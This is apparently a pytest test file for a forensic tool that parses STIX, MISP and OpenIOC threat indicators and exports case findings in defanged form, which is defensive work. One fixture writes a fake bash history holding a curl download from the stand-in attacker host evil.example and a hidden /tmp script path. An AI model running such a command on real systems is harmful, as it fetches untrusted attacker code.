"""Indicators in STIX, MISP and OpenIOC, and the indicators of a case written for other programs."""

from __future__ import annotations

import json
import re
from pathlib import Path

import pytest

from commodore.case.export import export
from commodore.case.reader import CaseReader
from commodore.engine.process import process
from scout.formats.indicators import read_file

STIX = {
    "type": "bundle",
    "id": "bundle--1",
    "objects": [
        {"type": "indicator", "pattern_type": "stix", "pattern": "[domain-name:value = 'evil.example' OR ipv4-addr:value = '10.1.2.3']",
         "valid_until": "2027-01-01T00:00:00Z", "confidence": 80, "name": "C2",
         "object_marking_refs": ["marking-definition--f88d31f6-486f-44da-b317-01333bde0b82"]},
        {"type": "indicator", "pattern_type": "stix", "pattern": "[file:hashes.'SHA-256' = '" + "ab" * 32 + "']"},
        {"type": "indicator", "pattern_type": "stix", "pattern": "[file:name = 'a.exe' AND file:size = 3]"},
        {"type": "indicator", "pattern_type": "yara", "pattern": "rule x {}"},
        {"type": "indicator", "pattern_type": "stix", "pattern": "[ipv4-addr:value = '0.0.0.0/0']"},
        {"type": "malware", "name": "not an indicator"},
    ],
}  # fmt: skip
MISP = {"Event": {"info": "case 7", "Tag": [{"name": "tlp:green"}], "Attribute": [
    {"type": "ip-dst|port", "value": "10.1.2.3|443", "to_ids": True},
    {"type": "filename|md5", "value": "x.exe|d41d8cd98f00b204e9800998ecf8427e", "to_ids": True},
    {"type": "domain", "value": "com", "to_ids": True},
    {"type": "url", "value": "", "to_ids": True},
    {"type": "text", "value": "free words", "to_ids": True},
    {"type": "domain", "value": "context.example", "to_ids": False},
], "Object": [{"Attribute": [{"type": "hostname", "value": "cdn.evil.example", "to_ids": True}]}]}}  # fmt: skip
OPENIOC = """<?xml version="1.0"?><ioc xmlns="http://schemas.mandiant.com/2010/ioc"><short_description>Drop</short_description><definition>
<Indicator operator="OR">
<IndicatorItem><Context search="FileItem/Md5sum"/><Content type="md5">d41d8cd98f00b204e9800998ecf8427e</Content></IndicatorItem>
<IndicatorItem condition="contains"><Context search="Network/DNS"/><Content type="string">evil[.]example</Content></IndicatorItem>
<IndicatorItem condition="is"><Context search="FileItem/SizeInBytes"/><Content>7</Content></IndicatorItem>
<Indicator operator="AND"><IndicatorItem condition="is"><Context search="FileItem/FileName"/><Content>a1.exe</Content></IndicatorItem>
<IndicatorItem condition="is"><Context search="FileItem/SizeInBytes"/><Content>9</Content></IndicatorItem></Indicator>
</Indicator></definition></ioc>"""


def read(tmp_path: Path, name: str, text: str):
    (tmp_path / name).write_text(text)
    return read_file(tmp_path / name)


def test_a_stix_bundle_gives_its_alternatives_with_tlp_confidence_and_end_and_refuses_combinations(tmp_path):
    text = json.dumps(STIX, indent=1)
    found, refused = read(tmp_path, "b.json", text)
    assert [(x.type, x.value) for x in found] == [("domain", "evil.example"), ("ip", "10.1.2.3"), ("sha256", "ab" * 32)]
    assert found[0].facts == ("AMBER", "80", "2027-01-01T00:00:00Z", "C2")
    assert "evil.example" in text.splitlines()[found[0].line - 1]
    assert [r.reason.partition(":")[0] for r in refused][:2] == [
        "a pattern that combines comparisons", "a pattern of the type yara"]  # fmt: skip
    assert "0.0.0.0/0" in refused[2].reason
    assert "0.0.0.0/0" in text.splitlines()[refused[2].line - 1]


def test_a_misp_event_gives_what_is_for_detection_and_names_the_line_of_the_rest(tmp_path):
    text = json.dumps(MISP, indent=1)
    found, refused = read(tmp_path, "m.json", text)
    assert [(x.type, x.value, x.facts.tlp) for x in found] == [
        ("ip", "10.1.2.3", "GREEN"),
        ("md5", "d41d8cd98f00b204e9800998ecf8427e", "GREEN"),
        ("domain", "cdn.evil.example", "GREEN"),
    ]
    assert len(refused) == 4
    said = " ".join(r.reason for r in refused)
    for words in ("`com`", "of the type text", "to_ids"):
        assert words in said
    assert '"com"' in text.splitlines()[refused[0].line - 1]


def test_openioc_gives_single_terms_and_refuses_terms_that_hold_together(tmp_path):
    found, refused = read(tmp_path, "o.ioc", OPENIOC)
    assert [(x.type, x.value, x.line) for x in found] == [("md5", "d41d8cd98f00b204e9800998ecf8427e", 3), ("domain", "evil.example", 4)]
    assert found[0].facts.title == "Drop"
    assert len(refused) == 2


def test_columns_of_a_table_give_end_confidence_and_tlp(tmp_path):
    found, _ = read(tmp_path, "l.csv", "indicator,tlp,confidence,valid_until\nevil.example,TLP:RED,high,2027-01-01\n")
    assert found[0].facts[:3] == ("RED", "high", "2027-01-01")


@pytest.mark.parametrize(
    "text", ["{", '{"a": 1}', "[1, 2]", '{"objects": [3]}', "<ioc", '<!DOCTYPE a [<!ENTITY b "c">]><ioc>&b;</ioc>', "[" * 100_000]
)
def test_a_damaged_document_is_refused_not_raised(tmp_path, text):
    found, refused = read(tmp_path, "d.json", text)
    assert not found
    assert refused or text == '{"objects": [3]}'


ID = re.compile(r"[a-z][a-z0-9-]+--[0-9a-f]{8}-[0-9a-f]{4}-[1-5][0-9a-f]{3}-[89ab][0-9a-f]{3}-[0-9a-f]{12}")
TIME = re.compile(r"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\.\d{3}Z")
OBJECT = re.compile(r"\[[a-z0-9-]+:[\w.'-]+ (?:=|LIKE) '(?:[^'\\]|\\.)*'(?: AND [a-z0-9-]+:[\w.'-]+ = '(?:[^'\\]|\\.)*')*\]")


def test_what_a_case_found_goes_out_as_stix_of_the_specification_misp_and_defanged_lists(tmp_path):
    root = tmp_path / "host"
    (root / "etc").mkdir(parents=True)
    (root / "etc" / "hostname").write_text("web1\n")
    (root / "root").mkdir()
    (root / "root" / ".bash_history").write_text("curl http://evil.example/x 10.1.2.3\ncat '/tmp/.x/it run.sh'\n")
    (tmp_path / "b.json").write_text(json.dumps(STIX))
    process([root], tmp_path / "case", iocs=[tmp_path / "b.json"], workers=1)
    shown = {f["rule.id"]: f for f in CaseReader(tmp_path / "case").findings()}
    assert shown["domain:evil.example"]["threat.indicator.marking.tlp"] == "AMBER"
    assert shown["domain:evil.example"]["threat.indicator.confidence"] == "80"
    assert shown["domain:evil.example"]["escadre.indicator_expires"] == "2027-01-01T00:00:00Z"
    written = {form: export(tmp_path / "case", tmp_path / "out", form)[0] for form in ("stix", "misp", "ioc-csv", "ioc-text")}
    assert {one.records for one in written.values()} == {2}
    bundle = json.loads(written["stix"].path.read_text())
    assert set(bundle) == {"type", "id", "objects"}  # 2.1 bundles have no spec_version (section 8)
    known = {one["id"] for one in bundle["objects"]}
    for one in (bundle, *bundle["objects"]):
        assert ID.fullmatch(one["id"]) and one["id"].startswith(one["type"] + "--")
    for one in bundle["objects"]:
        assert one["spec_version"] == "2.1"
        assert TIME.fullmatch(one["created"]) and TIME.fullmatch(one["modified"]) and one["created"] <= one["modified"]
        if one["type"] == "indicator":
            assert one["pattern_type"] == "stix" and OBJECT.fullmatch(one["pattern"]) and TIME.fullmatch(one["valid_from"])
            assert one["created_by_ref"] in known
            assert one["object_marking_refs"] == ["marking-definition--f88d31f6-486f-44da-b317-01333bde0b82"]
    again, refused = read_file(written["stix"].path)
    assert {(x.type, x.value) for x in again} == {("domain", "evil.example"), ("ip", "10.1.2.3")} and not refused
    assert {(x.type, x.value) for x in read_file(written["misp"].path)[0]} == {(x.type, x.value) for x in again}
    assert written["ioc-text"].path.read_text() == "domain: evil[.]example\nip: 10[.]1[.]2[.]3\n"
    assert {(x.type, x.value) for x in read_file(written["ioc-text"].path)[0]} == {(x.type, x.value) for x in again}
    assert {(x.type, x.value) for x in read_file(written["ioc-csv"].path)[0]} == {(x.type, x.value) for x in again}


@pytest.mark.parametrize(
    ("text", "found"),
    [
        ('["hxxp://a[.]example/x", "198.51.100.7"]', ["a.example/x", "198.51.100.7"]),
        ('{"domains": ["b.example", "c[.]example"], "ips": ["2001:db8::1"], "none": []}', ["b.example", "c.example", "2001:db8::1"]),
        ("[2001:db8::1]:443\nb.example\n", ["2001:db8::1", "b.example"]),
        ("[fe80::1%eth0]\nb.example\n", ["fe80::1", "b.example"]),
    ],
)
def test_plain_lists_of_json_and_addresses_in_brackets_are_read(tmp_path, text, found):
    (tmp_path / "list.json").write_text(text)
    taken, refused = read_file(tmp_path / "list.json")
    assert [one.value for one in taken] == found and not refused
